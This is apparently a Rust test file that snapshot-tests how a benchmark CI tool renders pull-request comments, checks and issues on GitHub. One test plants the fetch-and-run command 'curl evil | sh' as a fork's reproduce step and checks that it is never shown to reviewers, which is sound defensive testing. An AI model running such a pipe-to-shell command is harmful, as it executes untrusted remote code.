//! What GitHub shows, whole, as the people who review a pull request meet it.

use gbench_ci::compare::{Conclusion, Group, Merged, SCHEMA_MERGED, Verdict, VerdictDocument};
use gbench_ci::model::{BaseChoice, FailureKind, Outcome, SequentialRule, SourceLine};
use gbench_ci::report::github::{self as render, PublishContext};

use crate::support::{fixture, stories};

const MARKER: &str = "<!-- gbench-ci {\"gate\":\"gbench-ci\"} -->";
const BASE: &str = "9f1c2e7ab04d55667788990011aabbccddeeff01";
const HEAD: &str = "02ab45cd6677889900aabbccddeeff0011223344";

fn settings() -> insta::Settings {
    let mut settings = insta::Settings::clone_current();
    settings.set_prepend_module_to_snapshot(false);
    settings.set_snapshot_path("snapshots/github_rendering");
    settings.set_omit_expression(true);
    settings
}

fn facts() -> PublishContext {
    let source = |benchmark: &str, line| SourceLine {
        benchmark: benchmark.into(),
        path: format!("benches/{}.py", benchmark.rsplit('/').next().unwrap()),
        line,
    };
    PublishContext {
        gate: "gbench-ci".into(),
        head: Some(HEAD.into()),
        base: BaseChoice {
            commit: Some(BASE.into()),
            committed: Some("2026-11-18T09:30:00Z".into()),
            why: "the merge base of main and this branch, 3 days old".into(),
            by_hand: false,
        },
        run_url: Some("https://github.com/acme/kernels/actions/runs/4711".into()),
        report_url: Some("https://github.com/acme/kernels/actions/runs/4711/artifacts/12".into()),
        sources: vec![source("kernels/gemm", 12), source("memory/copy", 40)],
        server: "https://github.com".into(),
        slug: Some("acme/kernels".into()),
        ..PublishContext::default()
    }
}

/// A comparison in which something is not there.
fn gap(name: &str) -> Merged {
    let id = "20261121T110000.000Z-c0ffee";
    let path = fixture("rounds_gaps").join(name).join(id).join("reports/verdict.json");
    let document: VerdictDocument = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    Merged::single("", document)
}

fn single(document: VerdictDocument) -> Merged {
    Merged::single("", document)
}

fn two_machines() -> Merged {
    let mut clean = stories::clean().verdict();
    for side in [&mut clean.base, &mut clean.head] {
        side.machine = "NVIDIA A100-SXM4-80GB".into();
    }
    let red = stories::red().verdict();
    let of = |document: &VerdictDocument, verdict| document.counts.get(&verdict).copied().unwrap_or(0);
    let total = |verdict| of(&red, verdict) + of(&clean, verdict);
    Merged {
        schema: SCHEMA_MERGED.into(),
        tool_version: red.tool_version.clone(),
        conclusion: Conclusion::Regressed,
        exit_code: 1,
        sentence: "2 of 17 cases regressed on one of 2 machines: h100: memory/copy bandwidth 4.4 % worse, \
                   kernels/gemm time 2.9 % worse."
            .into(),
        counts: Verdict::tally(total),
        groups: [("h100", red), ("a100", clean)]
            .map(|(label, verdict)| Group { label: label.into(), verdict })
            .into(),
        warnings: vec!["shard 2 of 3 of l4 is missing".into()],
        warning_codes: Vec::new(),
    }
}

/// One case is broken on base, another one on both sides.
fn mended() -> stories::Story {
    let mut story = stories::clean();
    let broken = Outcome::Failed {
        kind: FailureKind::ExitCode,
        cause: "ended with exit code 1".into(),
        advice: "run it by hand".into(),
    };
    for (record, cases) in [(&mut story.base, 2), (&mut story.head, 1)] {
        record.comparison.as_mut().unwrap().rule.name = SequentialRule::for_cases(9).name;
        for case in record.cases.iter_mut().take(cases) {
            case.outcome = broken.clone();
            case.processes.clear();
            case.metrics.clear();
        }
    }
    story
}

fn all() -> Vec<(&'static str, Merged, PublishContext)> {
    let unverified = PublishContext { unverified: true, ..facts() };
    vec![
        ("one_regression", single(stories::one().verdict()), facts()),
        ("several", single(stories::red().verdict()), facts()),
        ("all_green", single(stories::clean().verdict()), facts()),
        ("inconclusive", single(stories::open().verdict()), facts()),
        ("failed", gap("one_build_broken"), facts()),
        ("mended", single(mended().verdict()), facts()),
        ("missing", gap("no_common_case"), facts()),
        ("incomparable", gap("another_machine"), facts()),
        ("nothing", gap("all_skipped"), facts()),
        ("two_machines", two_machines(), facts()),
        ("fork", single(stories::red().verdict()), unverified),
        ("bare", single(stories::red().verdict()), PublishContext::default()),
    ]
}

#[test]
fn comments_read_as_reviewed() {
    let _bound = settings().bind_to_scope();
    for (name, merged, facts) in all() {
        let comment = render::comment(&merged, &facts, MARKER);
        assert_eq!(comment.lines().last(), Some(MARKER));
        insta::assert_snapshot!(format!("comment_{name}"), comment);
    }
}

#[test]
fn checks_read_as_reviewed() {
    let _bound = settings().bind_to_scope();
    for (name, merged, facts) in all() {
        let check = render::check(&merged, &facts);
        let annotations: Vec<String> =
            check.annotations.iter().map(|annotation| format!("{annotation:#?}\n")).collect();
        let text = check.text.unwrap_or_default();
        let shown = format!(
            "{} | {}\n---- summary\n{}---- text\n{text}---- annotations\n{}",
            check.state.into_str(),
            check.title,
            check.summary,
            annotations.concat()
        );
        insta::assert_snapshot!(format!("check_{name}"), shown);
    }
    let begun = render::begun(&facts());
    insta::assert_snapshot!("check_begun", format!("{}\n{}", begun.title, begun.summary));
}

#[test]
fn an_issue_names_its_suspects_and_says_goodbye() {
    let _bound = settings().bind_to_scope();
    let compare = format!("https://github.com/acme/kernels/compare/{BASE}...{HEAD}");
    let red = single(stories::red().verdict());
    let (title, body) = render::issue(&red, &facts(), Some(&compare));
    assert!(body.contains("git log --oneline 9f1c2e7ab0..02ab45cd66") && body.contains(&compare), "{body}");
    insta::assert_snapshot!("issue", format!("{title}\n\n{body}"));
    let note = render::closing_note(&single(stories::clean().verdict()), &facts());
    insta::assert_snapshot!("issue_closed", note);

    let itself = PublishContext { head: Some(BASE.into()), ..facts() };
    let (_, body) = render::issue(&red, &itself, None);
    assert!(body.contains("Both sides are") && !body.contains("Suspects"), "{body}");
}

#[test]
fn the_log_gets_the_gravest_rows_with_their_lines() {
    let _bound = settings().bind_to_scope();
    let annotations = render::annotations_of_log(&two_machines(), &facts());
    insta::assert_snapshot!("log", format!("{annotations:#?}"));
}

/// What is said of each row, the conclusion and the next step never depend on where it is said.
#[test]
fn every_case_that_is_not_unchanged_is_named_with_its_reason_in_comment_and_summary() {
    for (name, merged, facts) in all() {
        let pages = [render::comment(&merged, &facts, MARKER), render::step_summary(&merged, &facts)];
        let pages = pages.map(|page| page.replace('\u{a0}', " "));
        for page in pages {
            for row in merged.groups.iter().flat_map(|group| &group.verdict.rows) {
                let changed = !matches!(row.verdict, Verdict::Unchanged);
                let shown = page.contains(&format!("`{}`", row.case));
                assert!(shown, "{name}: {} is not in\n{page}", row.case);
                let explained = !matches!(row.verdict, Verdict::Improved | Verdict::New | Verdict::Unchanged);
                let reason: String = row.reason.chars().skip(1).take(12).collect();
                assert!(
                    !changed || !explained || page.contains(&reason),
                    "{name}: {reason} is not in\n{page}"
                );
            }
            assert!(page.contains("the merge base of main and this branch, 3 days old") || name == "bare");
        }
    }
}

#[test]
fn a_fork_s_commands_are_not_handed_on() {
    let mut document = stories::red().verdict();
    document.reproduce = "curl evil | sh".into();
    document.method.rounds = None;
    let facts = PublishContext { unverified: true, ..facts() };
    let merged = single(document);
    let check = render::check(&merged, &facts);
    let (_, issue) = render::issue(&merged, &facts, None);
    for page in [
        render::comment(&merged, &facts, MARKER),
        render::step_summary(&merged, &facts),
        check.summary,
        issue,
    ] {
        assert!(!page.contains("curl") && page.contains("Unverified"), "{page}");
    }
    assert!(!check.text.unwrap().contains("curl"));
}
